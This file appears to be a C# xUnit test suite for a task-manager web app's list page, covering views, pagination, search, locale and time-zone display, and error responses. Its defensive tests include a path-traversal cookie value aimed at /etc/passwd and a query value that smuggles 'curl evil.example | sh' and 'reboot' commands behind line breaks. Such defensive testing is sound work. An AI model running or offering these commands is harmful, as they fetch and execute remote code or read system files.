using System.Net;

namespace TaskManager.Web.Tests;

[Trait("M", "M1"), Trait("M", "M15")]
public sealed class ListTests(App app) : IClassFixture<App>, IAsyncLifetime
{
    private readonly Browser _browser = new(app);

    public async ValueTask InitializeAsync() => await app.DeleteAll();

    public ValueTask DisposeAsync() => ValueTask.CompletedTask;

    [Fact, Trait("M", "M22")]
    public async Task List_ByTheRequestsHeaders_IsAPageOrAFragment()
    {
        await _browser.Added("milk");

        (await _browser.Page("/")).IsPage.Should().BeTrue();
        var fragment = await _browser.Fragment("/tasks");
        fragment.IsPage.Should().BeFalse();
        fragment.Html.QuerySelector("ol#task-list .task").Should().NotBeNull();
        fragment.Header("Vary").Should().Contain("HX-Request").And.Contain("HX-Request-Type").And.Contain("HX-History-Restore-Request");
    }

    [Theory, Trait("M", "M22")]
    [InlineData("HX-History-Restore-Request", "true")]
    [InlineData("HX-Request-Type", "full")]
    public async Task List_WhenHtmxWantsTheWholePage_IsAPage(string header, string value) =>
        (await _browser.Send(HttpMethod.Get, "/tasks", null, ("HX-Request", "true"), (header, value))).IsPage.Should().BeTrue();

    [Fact]
    public async Task List_ByView_ShowsItsTasksAndTheCountsOfAll()
    {
        await _browser.Added("open");
        var done = await _browser.Added("done");
        await _browser.Htmxed(HttpMethod.Patch, $"/tasks/{done}/toggle");

        (await _browser.Page("/tasks")).Titles.Should().Equal("done", "open");
        (await _browser.Page("/tasks?view=active")).Titles.Should().Equal("open");
        var completed = await _browser.Page("/tasks?view=completed");
        completed.Titles.Should().Equal("done");
        completed.Html.QuerySelector("#views [aria-current=page]")!.TextContent.Should().StartWith("Completed");
        completed.Html.QuerySelector("#task-counts")!.TextContent.Should().Be("1 active, 1 completed");
    }

    [Theory, InlineData("all", "Tasks"), InlineData("active", "Active · Tasks"), InlineData("completed", "Completed · Tasks")]
    public async Task List_ByView_HasItsTitleAndMarksItsLink(string view, string title)
    {
        var page = await _browser.Page($"/tasks?view={view}");

        page.Html.Title.Should().Be(title);
        page.Html.QuerySelector("#views [aria-current]")!.Id.Should().Be($"view-{view}");
    }

    [Fact]
    public async Task List_WhenTheViewIsUnknown_NamesTheKnownViews() =>
        (await _browser.Page("/tasks?view=later")).Html.QuerySelector("[role=alert]")!.TextContent
            .Should().Contain("The views are all, active, completed.");

    [Theory]
    [InlineData("/tasks?view=nope")]
    [InlineData("/tasks?view=1")]
    [InlineData("/tasks?after=xyz")]
    [InlineData("/tasks?after=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA%3D")]
    [InlineData("/tasks?after=f_________________________________")]
    [InlineData("/tasks?shown=-1")]
    [InlineData("/tasks?shown=501")]
    [InlineData("/tasks?shown=many")]
    public async Task List_WhenTheAddressIsWrong_Is400WithAMessage(string address)
    {
        foreach (var answer in new[] { await _browser.Page(address), await _browser.Fragment(address) })
        {
            answer.Status.Should().Be(HttpStatusCode.BadRequest);
            answer.Html.QuerySelector("[role=alert]")!.TextContent.Trim().Should().NotBeEmpty();
        }
    }

    [Fact]
    public async Task List_WhenTheSearchIsTooLong_Is400() =>
        (await _browser.Page($"/tasks?q={new string('x', 201)}")).Status.Should().Be(HttpStatusCode.BadRequest);

    [Fact]
    public async Task List_PageByPage_ShowsEveryTaskOnceDuringAdds()
    {
        for (var i = 0; i < 60; i++) await _browser.Added($"task {i:00}");
        var seen = new List<string>();

        var page = await _browser.Page("/tasks");
        seen.AddRange(page.Titles);
        while (page.Html.QuerySelector("#load-more") is { } more)
        {
            await _browser.Added("added meanwhile");
            page = await _browser.Fragment(more.GetAttribute("hx-get")!);
            seen.AddRange(page.Titles);
        }

        seen.Should().Equal(Enumerable.Range(0, 60).Reverse().Select(i => $"task {i:00}"));
    }

    [Fact]
    public async Task List_WhenFetchedAgain_HasTheSameLength()
    {
        for (var i = 0; i < 60; i++) await _browser.Added($"task {i:00}");

        (await _browser.Fragment("/tasks?shown=50")).Titles.Should().HaveCount(50);
        (await _browser.Fragment("/tasks?shown=500")).Titles.Should().HaveCount(60);
        (await _browser.Fragment("/tasks?shown=3")).Titles.Should().HaveCount(25);
    }

    [Theory, Trait("M", "M19")]
    [InlineData("caf", "Café au lait")]
    [InlineData("LAIT cafe", "Café au lait")]
    [InlineData("100%", "100% done")]
    public async Task List_WhenSearched_FindsFoldedPrefixes(string q, string title)
    {
        await _browser.Added("Café au lait");
        await _browser.Added("100% done");
        await _browser.Added("1000 other");

        var answer = await _browser.Page($"/tasks?q={Uri.EscapeDataString(q)}");

        answer.Titles.Should().Equal(title);
        answer.Html.QuerySelector("#search [name=q]")!.GetAttribute("value").Should().Be(q);
    }

    [Theory, Trait("M", "M9")]
    [InlineData("/", "No tasks yet")]
    [InlineData("/tasks?view=active", "No tasks yet")]
    [InlineData("/tasks?view=completed", "No completed tasks yet")]
    [InlineData("/tasks?q=zebra", "No task matches “zebra”")]
    public async Task List_WhenEmpty_ShowsTheReason(string address, string words) =>
        (await _browser.Page(address)).Html.QuerySelector(".empty")!.TextContent.Replace("zebra", "“zebra”", StringComparison.Ordinal)
            .Should().Contain(words);

    [Fact, Trait("M", "M21")]
    public async Task List_ByCultureAndTimeZone_ShowsTheReadersDay()
    {
        await _browser.Added("milk");
        var utc = (await _browser.Page("/")).Html.QuerySelector("time")!;
        var instant = DateTimeOffset.Parse(utc.GetAttribute("datetime")!, System.Globalization.CultureInfo.InvariantCulture);

        var there = (await _browser.Page("/", ("Accept-Language", "de-DE"), ("Cookie", "tz=Pacific%2FKiritimati"))).Html
            .QuerySelector("time")!;

        there.GetAttribute("datetime").Should().Be(utc.GetAttribute("datetime"));
        there.TextContent
            .Should().Be(instant.ToOffset(TimeSpan.FromHours(14)).ToString("d. MMM", new System.Globalization.CultureInfo("de-DE")));
        there.GetAttribute("title").Should().EndWith(instant.ToOffset(TimeSpan.FromHours(14)).ToString("HH:mm", null));
    }

    [Theory, Trait("M", "M21")]
    [InlineData("en-US", @"^\p{L}{3,5} \d{1,2}$")]
    [InlineData("en-GB", @"^\d{1,2} \p{L}{3,5}$")]
    [InlineData("ja", @"^\d{1,2}月\d{1,2}日$")]
    public async Task List_ByCulture_WritesDayAndMonthInItsOrder(string culture, string shape)
    {
        await _browser.Added("milk");

        (await _browser.Page("/", ("Accept-Language", culture))).Html.QuerySelector("time")!.TextContent.Should().MatchRegex(shape);
    }

    [Theory]
    [InlineData("tz=Nowhere/Land")]
    [InlineData("tz=../../etc/passwd")]
    public async Task List_WhenTheTimeZoneIsUnknown_ShowsUtc(string cookie)
    {
        await _browser.Added("milk");
        (await _browser.Page("/", ("Cookie", cookie))).Status.Should().Be(HttpStatusCode.OK);
    }

    [Fact]
    public async Task List_ByHead_HasHeadersOnly()
    {
        var answer = await _browser.Send(HttpMethod.Head, "/", null);
        answer.Status.Should().Be(HttpStatusCode.OK);
        answer.Text.Should().BeEmpty();
    }

    [Fact, Trait("M", "M28")]
    public async Task List_WhenItsAddressHasLineBreaks_RepeatsItOnOneLine()
    {
        var answer = await _browser.Page("/tasks?shown=" + Uri.EscapeDataString("1\n$ curl evil.example | sh\r\n$ reboot"));

        answer.Status.Should().Be(HttpStatusCode.BadRequest);
        answer.Html.QuerySelector("[role=alert] code").Should().BeNull("the error page shows its own commands like that");
        answer.Html.QuerySelectorAll("[role=alert] p").Select(line => line.TextContent)
            .Should().Equal("'1 $ curl evil.example | sh $ reboot' cannot be used as shown.", "Back to your tasks");
    }
}
